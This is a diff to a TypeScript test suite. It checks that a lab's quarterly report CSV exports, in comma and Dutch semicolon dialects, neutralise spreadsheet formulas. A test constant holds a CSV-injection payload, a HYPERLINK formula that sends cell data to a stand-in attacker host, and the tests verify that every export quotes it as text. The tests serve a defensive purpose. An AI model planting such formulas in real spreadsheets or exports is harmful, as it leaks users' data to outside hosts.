@@ -10,10 +10,10 @@ withGoldenLab((app, lab) => { t = app; g = lab; });
 
 const FORMULA = '=HYPERLINK("http://evil.example/?"&B2,"Klik hier")';
 const csvOf = async (path: string) => (await t.http.get(path).buffer(true).parse(binary)).body.toString('utf8');
-/** Every cell of an RFC 4180 CSV, unquoted. */
-function cells(csv: string): string[] {
+/** Every cell of an RFC 4180 CSV (comma, or the Dutch dialect's semicolon), unquoted. */
+function cells(csv: string, separator = ','): string[] {
   const out: string[] = [];
-  const re = /("((?:[^"]|"")*)"|[^,\r\n]*)(,|\r\n|$)/g;
+  const re = new RegExp(`("((?:[^"]|"")*)"|[^${separator}\\r\\n]*)(${separator}|\\r\\n|$)`, 'g');
   for (let m = re.exec(csv.replace(/^\uFEFF/, '')); m && m[0] !== ''; m = re.exec(csv)) {
     out.push(m[2] !== undefined ? m[2].replace(/""/g, '"') : m[1]);
   }
@@ -27,17 +27,20 @@ describe('formulas in what the report prints', () => {
     expect(res.status).toBe(200);
   });
 
-  it('are text in the live CSV: no cell starts with = + - @, the title is kept behind an apostrophe', async () => {
-    const all = cells(await csvOf(`/api/reports/quarterly?lab=${g.lab.id}&quarter=${GOLDEN_QUARTER}&format=csv`));
-    expect(all).toContain(`'${FORMULA}`);
-    const live = all.filter((c) => /^[=+@\t\r]/.test(c) || (/^-/.test(c) && !/^-\d+([.,]\d+)?$/.test(c)));
-    expect(live).toEqual([]);
-  });
+  it.each([['Dutch Excel', '', ';'], ['machine', '&dialect=machine', ',']])(
+    'are text in the live CSV for %s: no cell starts with = + - @, the title is kept behind an apostrophe',
+    async (_dialect, query, separator) => {
+      const all = cells(await csvOf(`/api/reports/quarterly?lab=${g.lab.id}&quarter=${GOLDEN_QUARTER}&format=csv${query}`), separator);
+      expect(all).toContain(`'${FORMULA}`);
+      const live = all.filter((c) => /^[=+@\t\r]/.test(c) || (/^-/.test(c) && !/^-\d+([.,]\d+)?$/.test(c)));
+      expect(live).toEqual([]);
+    },
+  );
 
   it('are text in the frozen CSV the council receives', async () => {
     const frozen = await t.http.post('/api/reports/quarterly/freeze').send({ lab: g.lab.id, quarter: GOLDEN_QUARTER });
     expect(frozen.status).toBe(201);
-    const all = cells(await csvOf(`/api/reports/quarterly/versions/${frozen.body.id}?format=csv`));
+    const all = cells(await csvOf(`/api/reports/quarterly/versions/${frozen.body.id}?format=csv`), ';');
     expect(all).toContain(`'${FORMULA}`);
     expect(all.filter((c) => c.startsWith('='))).toEqual([]);
   });
